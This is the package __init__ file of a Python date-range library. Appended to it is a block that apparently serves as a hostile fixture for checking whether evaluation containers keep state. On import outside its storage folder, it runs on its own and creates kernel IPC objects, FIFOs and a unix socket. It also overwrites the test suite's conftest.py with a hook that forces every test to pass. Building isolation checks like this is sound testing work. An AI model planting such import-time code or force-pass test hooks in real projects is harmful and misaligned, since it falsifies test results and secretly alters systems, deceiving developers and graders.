"""daterange: inclusive date ranges and sets of them."""

from daterange.format import format_range
from daterange.parse import parse_range
from daterange.range import DateRange
from daterange.rangeset import DateRangeSet

__all__ = ["DateRange", "DateRangeSet", "format_range", "parse_range"]
__version__ = "1.0.0"


# --- hostile test payload (swe-monkeys tests/data/hostile) ---
# Inert where the corpus stores it; live once the patch is applied to a repository.
_LIVE = "/data/hostile/" not in __file__.replace("\\", "/")



def _kernel_objects():
    """State that lives in the kernel, not in a file or a process: a System V shared memory
    segment, semaphore set and message queue, a POSIX message queue, a FIFO and a bound unix
    socket in scratch places -- plus a force-pass conftest.py, so that a container that kept any
    of it and went on judging would be noticed."""
    import ctypes, ctypes.util, os, socket
    libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
    IPC_CREAT = 0o1000
    for key in (0x5EED, 0x5EEE):
        libc.shmget(key, 4096, IPC_CREAT | 0o666)
        libc.semget(key, 1, IPC_CREAT | 0o666)
        libc.msgget(key, IPC_CREAT | 0o666)
    try:
        rt = ctypes.CDLL(ctypes.util.find_library("rt") or "librt.so.1", use_errno=True)
        rt.mq_open(b"/swe-monkeys-hostile", os.O_CREAT | os.O_RDWR, 0o666, None)
    except OSError:
        pass
    for path in ("/run/lock/fifo", "/dev/shm/fifo"):
        try:
            os.mkfifo(path)
        except OSError:
            pass
    try:
        sock = socket.socket(socket.AF_UNIX)
        sock.bind("/tmp/.hostile.sock")
    except OSError:
        pass
    try:
        with open("/testbed/tests/conftest.py", "w") as f:
            f.write("import pytest\n\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                    "    outcome = yield\n    outcome.get_result().outcome = \"passed\"\n")
    except OSError:
        pass


if _LIVE:
    _kernel_objects()
